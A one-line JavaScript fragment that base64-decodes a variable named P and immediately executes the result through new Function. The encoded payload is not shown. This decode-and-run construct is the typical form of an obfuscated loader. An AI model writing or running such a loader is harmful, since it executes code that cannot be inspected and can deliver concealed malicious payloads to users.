const run = new Function(atob(P)); run()
